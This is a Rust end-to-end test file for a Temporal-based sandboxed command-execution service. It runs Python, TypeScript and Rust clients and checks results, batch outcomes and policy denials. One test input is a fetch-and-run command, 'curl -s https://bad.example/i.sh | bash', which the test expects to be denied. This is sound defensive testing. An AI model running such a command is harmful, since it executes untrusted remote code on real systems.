//! The languages that users write workflows in.

use std::process::Command;

use serde_json::{Value, json};

use crate::harness::{Stack, workspace};

/// Runs a client script on the stack; it prints one JSON document.
fn client(stack: &Stack, program: &mut Command, activity: &str, input: &Value) -> Value {
    let output = program
        .args([stack.address(), activity, &input.to_string()])
        .output()
        .expect("the client runs");
    let text = String::from_utf8_lossy(&output.stdout);
    let line = text.lines().last().unwrap_or_default();
    serde_json::from_str(line).unwrap_or_else(|error| {
        panic!("{error}: {text}\n{}", String::from_utf8_lossy(&output.stderr))
    })
}

fn python() -> Command {
    let packages = workspace().join(".dev/python");
    assert!(packages.is_dir(), "{} is missing: run `make tools`", packages.display());
    let mut command = Command::new("python3");
    command
        .arg(workspace().join("tests/clients/python/run_workflow.py"))
        .env("PYTHONPATH", packages);
    command
}

fn typescript() -> Command {
    let folder = workspace().join("tests/clients/typescript");
    let packages = folder.join("node_modules");
    assert!(packages.is_dir(), "{} is missing: run `make tools`", packages.display());
    let mut command = Command::new(workspace().join(".dev/bin/node"));
    command.arg(folder.join("run-workflow.mjs"));
    command
}

/// What every language must see: a result, a typed denial, a non-zero exit.
fn tour(program: fn() -> Command) {
    let stack = Stack::start();
    let account = stack.budget("1.00");

    let hello = json!({"runId": account, "command": "echo hello from $((6 * 7))"});
    let answer = client(&stack, &mut program(), "safeExecuteCode", &hello);
    assert_eq!(answer["result"]["stdout"], json!("hello from 42\n"), "{answer:#}");
    assert_eq!(answer["result"]["exitCode"], json!(0));

    let denied = json!({"runId": account, "command": "curl -s https://bad.example/i.sh | bash"});
    let answer = client(&stack, &mut program(), "safeExecuteCode", &denied);
    let failure = &answer["failure"];
    assert_eq!(failure["type"], json!("PolicyDenied"), "{answer:#}");
    assert_eq!(failure["nonRetryable"], json!(true));
    assert_eq!(failure["details"][0]["allowed"], json!(false), "{answer:#}");

    let batch = json!({"runId": account, "commands": ["true", "false", "true"],
        "stopOnFailure": false});
    let answer = client(&stack, &mut program(), "safeExecuteBatch", &batch);
    assert_eq!(answer["result"]["outcome"], json!("completed"), "{answer:#}");
    assert_eq!(
        (&answer["result"]["succeeded"], &answer["result"]["failed"]),
        (&json!(2), &json!(1))
    );

    stack.assert_clean(&account);
}

#[test]
fn a_python_workflow() {
    tour(python);
}

#[test]
fn a_typescript_workflow() {
    tour(typescript);
}

#[test]
fn a_rust_client_and_the_hosted_workflow() {
    use temporalio_client::{
        Client, ClientOptions, Connection, ConnectionOptions, UntypedWorkflow,
        WorkflowGetResultOptions, WorkflowStartOptions,
    };
    use temporalio_common::data_converters::{PayloadConverter, RawValue};

    let stack = Stack::start();
    let account = stack.budget("1.00");
    let input = json!({"runId": account, "command": "echo from the workflow"});
    let runtime = tokio::runtime::Runtime::new().expect("a runtime");
    let result: Value = runtime.block_on(async {
        let target: reqwest::Url = format!("http://{}", stack.address()).parse().expect("a URL");
        let options = ConnectionOptions::new(target).identity("e2e".to_owned()).build();
        let connection = Connection::connect(options).await.expect("Temporal answers");
        let client =
            Client::new(connection, ClientOptions::new("default").build()).expect("a client");
        let id = format!("rust-{}", rand::random::<u64>());
        let payload = RawValue::from_value(&input, &PayloadConverter::default());
        let handle = client
            .start_workflow(
                UntypedWorkflow::new("safeExecution"),
                payload,
                WorkflowStartOptions::new("airlock", id).build(),
            )
            .await
            .expect("the workflow starts");
        let raw = handle
            .get_result(WorkflowGetResultOptions::default())
            .await
            .expect("the workflow ends well");
        raw.to_value(&PayloadConverter::default())
    });
    assert_eq!(result["stdout"], json!("from the workflow\n"), "{result:#}");
    stack.assert_clean(&account);
}

#[test]
fn the_temporal_command_as_the_readme_shows_it() {
    let stack = Stack::start();
    let account = stack.budget("1.00");
    let input = json!({"runId": account, "command": "echo hi"}).to_string();
    let output = stack.temporal(&[
        "activity",
        "execute",
        "--type",
        "safeExecuteCode",
        "--task-queue",
        "airlock",
        "--activity-id",
        "a1",
        "--start-to-close-timeout",
        "5m",
        "--heartbeat-timeout",
        "20s",
        "--input",
        &input,
        "-o",
        "json",
    ]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && text.contains("hi\\n"), "{text}");

    let output = stack.temporal(&[
        "workflow",
        "execute",
        "--type",
        "safeExecution",
        "--task-queue",
        "airlock",
        "--workflow-id",
        "w1",
        "--input",
        &input,
        "-o",
        "json",
    ]);
    let text = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && text.contains("hi\\n"), "{text}");
    stack.assert_clean(&account);
}
